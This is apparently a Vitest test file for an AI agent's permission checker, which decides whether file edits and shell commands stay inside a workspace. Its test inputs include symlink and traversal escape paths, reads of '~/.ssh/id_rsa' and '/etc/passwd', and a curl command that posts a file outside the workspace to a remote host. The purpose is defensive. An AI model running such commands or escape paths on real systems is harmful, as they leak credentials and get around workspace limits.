import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { decidePermission } from "@paperclipai/shared";
import { afterAll, beforeAll, expect, it } from "vitest";
import { LIMITS } from "../../../../../platform/settings/limits.ts";
import { placeOf, requestedAction, workingFolder } from "../requested-action.ts";

let root: string;
const workspace = () => path.join(root, "workspace");

beforeAll(() => {
	root = realpathSync(mkdtempSync(path.join(tmpdir(), "requested-action-")));
	mkdirSync(path.join(workspace(), "src"), { recursive: true });
	mkdirSync(path.join(root, "outside"));
	writeFileSync(path.join(root, "outside", "file"), "");
	writeFileSync(path.join(workspace(), "src", "secret.txt"), "");
	symlinkSync(path.join(root, "outside"), path.join(workspace(), "up"));
	symlinkSync(path.join(root, "outside", "new"), path.join(workspace(), "dangling"));
	symlinkSync("loop", path.join(workspace(), "loop"));
	symlinkSync("src", path.join(workspace(), "inside"));
	symlinkSync(path.join(root, "outside"), path.join(workspace(), "src", "deep"));
	symlinkSync(path.join(root, "outside"), path.join(workspace(), "src", "@lib"));
	symlinkSync(path.join(root, "outside"), path.join(workspace(), "src", "a,b=c"));
	mkdirSync(path.join(workspace(), "many"));
	for (let index = 0; index < 500; index++) writeFileSync(path.join(workspace(), "many", `f${index}`), "");
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

const decide = (action: Parameters<typeof requestedAction>[0]) => {
	const folder = workingFolder(workspace(), null);
	const request = { toolName: "Tool", action: requestedAction(action, folder) };
	return decidePermission({ preset: "workspace", rules: [] }, request, placeOf(folder)).decision;
};

it.each([
	["src/new.ts", "allow"],
	["new/folder/file", "allow"],
	["inside/a.ts", "allow"],
	["src/../src/a.ts", "allow"],
	["../outside/file", "ask"],
	["up/file", "ask"],
	["up/new/file", "ask"],
	["dangling", "ask"],
	["up/../evil", "ask"],
	["up/../workspace/a.ts", "allow"],
	["inside/../evil", "allow"],
	["new/../src/a.ts", "allow"],
	["new/../up/file", "ask"],
	["loop", "ask"],
	["https://example.org/a", "ask"],
	["src/config\u00ad.ts", "ask"],
	["src/config\u3164.ts", "ask"],
	["src/👩‍💻 Foto\u202f1.png", "allow"],
	["src/.git/config", "ask"],
])("an edit of %s is decided by the file that it changes: %s", (file, decision) => {
	expect(decide({ kind: "edit", paths: [file] })).toBe(decision);
});

it.each([
	["cat src/a.ts", "allow"],
	["cat up/file", "ask"],
	["cat --file=up/file", "ask"],
	["cp a dangling", "ask"],
	["cat inside/a.ts", "allow"],
	["cd src && cat deep/file", "ask"],
	["(cd src; cat deep/file)", "ask"],
	["cd inside && cat deep/file", "ask"],
	["pushd src; cat deep/file", "ask"],
	["cd src && cat a.ts", "allow"],
	["cd -P src && cat deep/file", "ask"],
	["cat src/@lib/file", "ask"],
	["cat src/a,b=c/file", "ask"],
	["git commit -m 'Move it up'", "allow"],
	[`cat > src/a.ts <<'EOF'\n${"const up = 1;\n".repeat(500)}EOF`, "allow"],
	[`echo ${"up ".repeat(2_000)} >> a.txt`, "allow"],
	["cat many/*", "allow"],
	["bash -c 'cd src && cat deep/file'", "ask"],
	["git -C src diff deep/file", "ask"],
	["make --directory=src -f deep/Makefile", "ask"],
	["cat $PWD/up/file", "ask"],
	['cat "${PWD}/up/file"', "ask"],
	["cat $PWD/src/a.ts", "allow"],
	["cat u?/file", "ask"],
	["cat [u]p/file", "ask"],
	["cat */file", "ask"],
	["cat src/*/file", "ask"],
	["cat src/*.ts", "allow"],
	["cat {up,src}/file", "ask"],
	[Array.from({ length: 9 }, () => "cd src").join(" && "), "ask"],
	["curl -d @up/file https://example.org", "ask"],
	["sort a -oup/file", "ask"],
	["bash -c 'cat up/file'", "ask"],
	["bash -c 'cat<up/file'", "ask"],
	["bash -c 'cat src/a.ts'", "allow"],
])("the command %s is decided by the files that it names: %s", (command, decision) => {
	expect(decide({ kind: "command", command })).toBe(decision);
});

it.each([
	"~/.ssh/id_rsa",
	" /etc/passwd",
	"a\u0000b",
	"https://example.org/a",
])("denies %j if any path is denied", (name) => {
	const action = requestedAction({ kind: "read", paths: [name] }, workingFolder(workspace(), null));
	const rules = [{ decision: "deny", path: "/home/u/.ssh" } as const];
	const request = { toolName: "Read", action };
	expect(decidePermission({ preset: "full", rules }, request, { workspace: workspace() }).decision).toBe("deny");
});

it.each([
	["cat src/secret.txt", "deny"],
	["cd src && cat ./secret.txt", "deny"],
	["cat $PWD/src/Secret.txt", "deny"],
	["cat inside/secret.txt", "deny"],
	["cat {src/secret.txt,b}", "deny"],
	["sh -c 'cat src/secret.txt'", "deny"],
	["cat src/sec*", "deny"],
	["cat s?c/secret.txt", "deny"],
	["echo src/secret.txt >> .gitignore", "allow"],
	["git commit -m 'Ignore src/secret.txt'", "allow"],
	[`cat > a.md <<'EOF'\n${"See src/secret.txt\n".repeat(500)}EOF`, "allow"],
	["cat src/secret.txt.bak", "allow"],
	["ls src", "allow"],
])("a rule that denies a file decides on the command %s: %s", (command, decision) => {
	const folder = workingFolder(workspace(), null);
	const request = { toolName: "Tool", action: requestedAction({ kind: "command", command }, folder) };
	const rules = [{ decision: "deny" as const, path: "src/secret.txt" }];
	expect(decidePermission({ preset: "workspace", rules }, request, placeOf(folder)).decision).toBe(decision);
	expect(decidePermission({ preset: "full", rules }, request, placeOf(folder)).decision).toBe(decision);
	const allow = [{ decision: "allow" as const, path: "src" }];
	expect(decidePermission({ preset: "ask", rules: allow }, request, placeOf(folder)).decision).toBe("ask");
});

it("asks where a rule denies a file and the files of a command are unknown", () => {
	const folder = workingFolder(workspace(), null);
	const command = `cat ${Array.from({ length: 2_000 }, (_, index) => `f${index}`).join(" ")}`;
	const request = { toolName: "Tool", action: requestedAction({ kind: "command", command }, folder) };
	const rules = [{ decision: "deny" as const, path: "src/secret.txt" }];
	expect(decidePermission({ preset: "full", rules }, request, placeOf(folder)).decision).toBe("ask");
});

it("shows both files of a path with .. behind a link", () => {
	const folder = workingFolder(workspace(), null);
	const both = [path.join(workspace(), "evil"), path.join(root, "evil")];
	expect(requestedAction({ kind: "edit", paths: ["up/../evil"] }, folder)).toEqual({ kind: "edit", paths: both });
	expect(requestedAction({ kind: "command", command: "make", cwd: "up/../evil" }, folder)).toMatchObject({
		cwd: path.join(root, "evil"),
	});
});

it("names the workspace like a program in another environment", () => {
	const folders = [{ here: "/srv/work", there: "/paperclip/work" }];
	expect(workingFolder("/srv/work/tree", folders)).toEqual({ path: "/paperclip/work/tree", isLocal: false });
	const folder = workingFolder("/srv/work/tree", folders);
	const action = requestedAction({ kind: "edit", paths: ["a.ts", "/etc/passwd"] }, folder);
	expect(action).toEqual({ kind: "edit", paths: ["/paperclip/work/tree/a.ts", "/etc/passwd"] });
});

it("takes a time in proportion to the size of a request", () => {
	const chars = LIMITS.requestChars;
	const before = process.cpuUsage();
	expect(decide({ kind: "command", command: `cat ${"a,".repeat(chars / 2)}` })).toBe("ask");
	expect(decide({ kind: "command", command: `cat ${"a/".repeat(chars / 2)}` })).toBe("ask");
	expect(decide({ kind: "command", command: `cat ${`${"a/".repeat(2_000)} `.repeat(60)}` })).toBe("ask");
	expect(decide({ kind: "command", command: `cat ${"{1..99} ".repeat(chars / 8)}` })).toBe("ask");
	expect(decide({ kind: "command", command: `cat ${"$(".repeat(chars / 2)}` })).toBe("ask");
	const patterns = Array.from({ length: 990 }, (_, index) => `many/*${index}`);
	expect(decide({ kind: "command", command: "(a)".repeat(chars / 8) })).toBe("ask");
	expect(decide({ kind: "command", command: `${"a<<A\nA\n".repeat(chars / 16)}b|c` })).toBe("ask");
	const stars = Array.from({ length: 300 }, (_, index) => `many/${"*".repeat(index + 1)}`);
	expect(decide({ kind: "command", command: `cat ${patterns.join(" ")}` })).toBe("allow");
	expect(decide({ kind: "command", command: `cat ${stars.join(" ")}` })).toBe("ask");
	expect(decide({ kind: "edit", paths: ["a/".repeat(chars / 2)] })).toBe("ask");
	expect(decide({ kind: "edit", paths: new Array(1_000).fill("a/".repeat(100)) })).toBe("allow");
	const rules = new Array(500).fill({ decision: "deny", command: "git push" } as const);
	const action = requestedAction({ kind: "command", command: "echo a ".repeat(chars / 7) }, workingFolder("/", null));
	const request = { toolName: "Tool", action };
	expect(decidePermission({ preset: "full", rules }, request, { workspace: "/" }).decision).toBe("allow");
	const { user, system } = process.cpuUsage(before);
	// Minutes, if the time were not in proportion to the size.
	expect(user + system).toBeLessThan(10_000_000);
});
